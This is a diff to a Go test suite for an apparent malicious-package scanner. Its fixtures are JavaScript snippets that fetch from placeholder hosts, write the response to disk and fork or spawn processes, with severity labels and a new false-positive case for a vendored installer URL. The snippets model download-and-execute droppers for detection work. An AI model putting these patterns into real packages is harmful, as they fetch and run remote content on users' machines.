@@ -26,6 +26,10 @@ func TestDownloadExecute(t *testing.T) {
 		// warning; the same host given to a request is a download
 		{"docs_link_in_message", map[string]string{"index.js": `const fs=require("fs"),os=require("os"),cp=require("child_process"); const r = await fetch(reportUrl); fs.writeFileSync(out, await r.text()); warn("Consider running slow files in parallel. See: https://docs.example.invalid/test-parallel"); cp.fork(entry, {detached: false, stdio: "ignore", cwd: os.tmpdir()})`}, finding.SeverityLow},
 		{"docs_host_requested", map[string]string{"index.js": `const fs=require("fs"),os=require("os"),cp=require("child_process"); const r = await fetch("https://docs.example.invalid/tool"); fs.writeFileSync(out, await r.text()); warn("See: https://docs.example.invalid/tool"); cp.fork(entry, {detached: true, stdio: "ignore", cwd: os.tmpdir()})`}, finding.SeverityHigh},
+		// a vendored tool's constants in a large file: the installer's URL
+		// is never requested
+		{"vendored_installer_constant", map[string]string{"index.js": `const fs=require("fs"),cp=require("child_process"); const YARN_INSTALLER_SH = "https://yarnpkg.example.invalid/install.sh"; fetch(registry + name).then(r => r.text()).then(t => fs.writeFileSync(out, t)); cp.spawn(cmd, args)
+` + strings.Repeat("function pad() { return 1 }\n", 2600)}, finding.SeverityLow},
 		{"raw_ip_temp_exe", map[string]string{"postinstall.js": dropper}, finding.SeverityCritical},
 		// a native module named by the constant end of a template URL
 		{"template_node_module", map[string]string{"index.js": "const fs=require(\"fs\"),os=require(\"os\"),https=require(\"https\"); const dest = require(\"path\").join(os.tmpdir(), \"x.node\");\n" +
